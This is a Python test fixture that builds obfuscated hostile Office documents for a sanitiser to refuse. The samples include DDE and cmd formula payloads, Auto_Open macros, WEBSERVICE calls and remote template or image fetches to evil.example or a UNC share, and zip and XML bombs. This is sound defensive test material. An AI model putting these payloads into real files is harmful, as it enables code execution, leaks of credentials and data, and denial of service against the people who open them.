"""Hostile office documents that hide what they do from a search of their bytes.

Each is refused once it is parsed: names under any prefix, values after entities and split runs.
"""

from tests.files import EXCEL, WORD, docx, office, pptx, xlsx, zipped
from tests.files.hostile_opendocument import HOSTILE_CALC, HOSTILE_WRITER

MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
KINDS = f"{OFFICE}/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
VML = "urn:schemas-microsoft-com:vml"
MACROS, REMOTE = "contains macros", "downloads something"
FOREIGN, BROKEN, LINK = "not part of a document", "cannot be read", "has a link to a folder"


def word_document(body, prefix="w"):
    names = f'xmlns:{prefix}="{MAIN}" xmlns:r="{KINDS}" xmlns:a="{DRAWING}" xmlns:v="{VML}"'
    return f"<{prefix}:document {names}>{body}</{prefix}:document>"


def word(body, *more, prefix="w"):
    return docx(("word/document.xml", word_document(body, prefix)), *more)


def sheet(body):
    return xlsx(("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{SHEETS}">{body}</worksheet>'))


def related(attributes, of="word/_rels/document.xml.rels", prefix=""):
    """A relationship of the main part with these attributes."""
    tag, names = (f"{prefix}:", f"xmlns:{prefix}") if prefix else ("", "xmlns")
    element = f'<{tag}Relationship Id="r1" {attributes}/>'
    return of, f'<{tag}Relationships {names}="{PACKAGE}">{element}</{tag}Relationships>'


def leading_out(kind, target, mode='TargetMode="External"', **place):
    return related(f'Type="{KINDS}/{kind}" Target="{target}" {mode}', **place)


def field(*pieces):
    """A field of Word whose instruction is in runs of their own."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"{char('begin')}{runs}{char('separate')}{char('end')}"


def char(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def typed(content_type, part="/word/settings2.xml"):
    return docx(types=f'<Override PartName="{part}" ContentType="{content_type}"/>')


def slow_word():
    """What kept a regular expression busy for minutes."""
    return docx(("word/document.xml", '<relationship targetmode="external"' * 20_000))


def deep_word():
    return word("<w:p>" * 100_000)


def bomb_of_markup():
    """150 MB of XML in 150 KB."""
    return docx(("word/document.xml", word_document("<w:p/>" * 25_000_000)))


def bomb_of_lists():
    """Many parts of XML, each of which is small enough by itself."""
    part = word_document("<w:p a='b'/>" * 300_000)
    return docx(*((f"word/{n}.xml", part) for n in range(40)))


def twice_inside():
    return docx(("word/embeddings/a.docx", docx(("word/embeddings/b.docx", docx()))))


EVIL, SHARE = "https://evil.example/x.png", r"\\evil.example\x\y.png"
DDE = "DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;"
PIECE = "<w:instrText>{}</w:instrText>".format
DELETED = "<w:delInstrText>x</w:delInstrText>"
EITHER = (
    '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
    f"<mc:Choice>{PIECE('E x')}</mc:Choice><mc:Fallback>{PIECE('x')}</mc:Fallback>"
    "</mc:AlternateContent>"
)
OTHERS = '<x:instrText xmlns:x="urn:x">x</x:instrText>'
FETCHED = f'<a:blip r:link="r1"/><a:blip r:embed="{EVIL}"/>'
BORROWED = '<v:imagedata r:id="r1"/>'

CONNECTED = f'<connections xmlns="{SHEETS}"><connection id="1"/></connections>'
QUERY = f'<queryTable xmlns="{SHEETS}" connectionId="1"/>'
BOOK = f'<externalLink xmlns="{SHEETS}"><externalBook/></externalLink>'
WEB = '<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/x"/>'
PANES = '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/y"/>'
MASHUP = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
RUNNING = f'<a:hlinkClick xmlns:a="{DRAWING}" action="ppact&#105;on://program"/>'

DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = "application/vnd.ms-office.vba&#80;roject"

HOSTILE_WORD = {
    "word that is slow to search": (slow_word, BROKEN),
    "word deeper than a reader goes": (deep_word, BROKEN),
    "word with an entity in what it fetches": (
        docx(leading_out("attachedTemplate", EVIL, 'TargetMode="&#69;xternal"')),
        REMOTE,
    ),
    "word that fetches under a prefix": (
        docx(leading_out("attachedTemplate", EVIL, prefix="pr")),
        REMOTE,
    ),
    "word that fetches by single quotes": (
        docx(leading_out("attachedTemplate", EVIL, "TargetMode\n=\n'External'")),
        REMOTE,
    ),
    "word that fetches in another case": (
        docx(leading_out("attachedTemplate", EVIL, 'targetmode=" EXTERNAL "')),
        REMOTE,
    ),
    "word that fetches and says both": (
        docx(leading_out("image", EVIL, 'TargetMode="External" targetmode="Internal"')),
        REMOTE,
    ),
    "word that fetches a picture": (docx(leading_out("image", EVIL)), REMOTE),
    "word that fetches from a share": (docx(leading_out("image", SHARE)), REMOTE),
    "word that fetches from a share inside": (docx(leading_out("image", SHARE, "")), REMOTE),
    "word that fetches by a file": (docx(leading_out("image", "file://evil/x", "")), REMOTE),
    "word with a kind of its own": (docx(leading_out("unheardOf", EVIL)), REMOTE),
    "word with a link to a share": (docx(leading_out("hyperlink", SHARE)), LINK),
    "word with a link that runs": (docx(leading_out("hyperlink", "java&#9;script:x")), LINK),
    "word with a picture by a link": (
        word(FETCHED, leading_out("hyperlink", EVIL)),
        REMOTE,
    ),
    "word with a drawing by a link": (
        word(BORROWED, leading_out("hyperlink", EVIL)),
        REMOTE,
    ),
    "word with an old picture from afar": (word(f'<v:fill src="{EVIL}"/>'), REMOTE),
    "word with an old picture from a share": (word(f'<v:imagedata src="{SHARE}"/>'), REMOTE),
    "word that runs in one attribute": (word(f'<w:fldSimple w:instr="{DDE}"/>'), MACROS),
    "word that runs in split runs": (word(field("D", "DEAU", "TO c:\\\\x")), MACROS),
    "word that runs by letters": (word(field("&#68;&#x44;E c:\\\\x")), MACROS),
    "word that runs by a section": (word(field("D<![CDATA[DE]]> c:\\\\x")), MACROS),
    "word that runs around a remark": (word(field("DD<!-- x -->E c:\\\\x")), MACROS),
    "word that runs under a prefix": (
        word(f"<x:instrText>{DDE}</x:instrText>", prefix="x"),
        MACROS,
    ),
    "word that runs by a field inside": (
        word(char("begin") + field("QUOTE 68 68 69") + char("end")),
        MACROS,
    ),
    "word that runs around a deletion": (
        word(char("begin") + PIECE("DD") + DELETED + PIECE("E x") + char("end")),
        MACROS,
    ),
    "word that runs in one of two ways": (
        word(char("begin") + PIECE("DD") + EITHER + char("end")),
        MACROS,
    ),
    "word that runs around another’s words": (
        word(char("begin") + PIECE("DD") + OTHERS + PIECE("E x") + char("end")),
        MACROS,
    ),
    "word that runs by half a name": (
        word(char("begin") + PIECE("D") + field("QUOTE") + PIECE("DE x") + char("end")),
        MACROS,
    ),
    "word that runs before what it shows": (
        word(char("begin") + PIECE("DDE") + char("separate") + PIECE("x") + char("end")),
        MACROS,
    ),
    "word that runs past what it shows": (
        word(field("PAGE") + char("begin") + "<w:instrText>DDE x</w:instrText>"),
        MACROS,
    ),
    "word with a picture by a field": (word(field(f'INCLUDEPICTURE "{EVIL}"')), REMOTE),
    "word with a text by a field": (word(field('INCLUDETEXT "C:\\\\x"')), REMOTE),
    "word with a letter for many": (word('<w:connectString w:val="x"/>'), REMOTE),
    "word with a page in it": (word('<w:altChunk r:id="r1"/>'), FOREIGN),
    "word with a document type": (docx(("word/document.xml", "<!DOCTYPE x><x/>")), MACROS),
    "word in another encoding": (
        docx(("word/document.xml", '<?xml version="1.0" encoding="ISO-8859-1"?><x/>')),
        FOREIGN,
    ),
    "word with text as a picture": (
        docx(("word/media/a.png", word_document(field("DDE x")))),
        MACROS,
    ),
    "word with half of its text": (docx(("word/document.xml", "<x><y></x>")), BROKEN),
    "word with a web extension": (docx(("word/we.xml", WEB)), MACROS),
    "word with a task pane": (docx(("word/panes.xml", PANES)), MACROS),
    "word related to a web extension": (
        docx(related('Type="http://schemas/webextension" Target="we.xml"')),
        MACROS,
    ),
    "word with disguised macros": (typed(VBA), MACROS),
    "word with macros as its main part": (typed(DOCM.replace("E", "&#69;")), MACROS),
    "word with an unknown binary": (
        typed("image/png", part="/word/printerSettings/a.bin"),
        FOREIGN,
    ),
    "word and excel": (
        office(WORD, types=f'<Override ContentType="{EXCEL}"/>'),
        "two files in one",
    ),
    "word with an old object in a picture": (
        docx(("word/media/a.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99))),
        MACROS,
    ),
    "word with a word that runs": (
        docx(("word/embeddings/a.docx", word(field("DDE x")))),
        MACROS,
    ),
    "word with a zip that is no word": (
        docx(("word/embeddings/a.docx", zipped([("a.txt", "a")]))),
        FOREIGN,
    ),
    "word in word in word": (twice_inside, FOREIGN),
    "a bomb of markup": (bomb_of_markup, "expands to far more"),
    "a bomb of many parts of markup": (bomb_of_lists, "expands to far more"),
}
HOSTILE_EXCEL = {
    "excel with connections": (xlsx(("xl/connections.xml", CONNECTED)), REMOTE),
    "excel with renamed connections": (xlsx(("xl/styles2.xml", CONNECTED)), REMOTE),
    "excel with a query": (xlsx(("xl/queryTables/q.xml", QUERY)), REMOTE),
    "excel with another book": (xlsx(("xl/externalLinks/l.xml", BOOK)), REMOTE),
    "excel with a mashup": (xlsx(("customXml/item1.xml", MASHUP)), REMOTE),
    "excel that asks the web": (sheet('<f>WEBSERVICE("https://evil.example/")</f>'), REMOTE),
    "excel that asks by letters": (sheet("<f>_xlfn.WEB&#83;ERVICE (A1)</f>"), REMOTE),
    "excel that asks in a name": (
        sheet('<definedName name="a">WEBSERVICE(A1)</definedName>'),
        REMOTE,
    ),
    "excel that asks after a quoted sheet": (sheet("<f>'a\"b'!A1+WEBSERVICE(A1)</f>"), REMOTE),
    "excel that starts a program": (sheet("<f>cmd|'/c calc'!A0</f>"), MACROS),
    "excel that starts by itself": (
        sheet('<definedName name="_xlnm.Auto_Open">A1</definedName>'),
        MACROS,
    ),
}
HOSTILE_POWERPOINT = {
    "powerpoint that runs": (pptx(("ppt/slides/slide1.xml", RUNNING)), MACROS),
    "powerpoint with a film from afar": (
        pptx(leading_out("video", EVIL, of="ppt/slides/_rels/slide1.xml.rels")),
        REMOTE,
    ),
}
HOSTILE_DOCUMENTS = {
    what: (f"a.{ending}", content, words)
    for ending, rows in (
        ("docx", HOSTILE_WORD),
        ("xlsx", HOSTILE_EXCEL),
        ("pptx", HOSTILE_POWERPOINT),
        ("odt", HOSTILE_WRITER),
        ("ods", HOSTILE_CALC),
    )
    for what, (content, words) in rows.items()
}
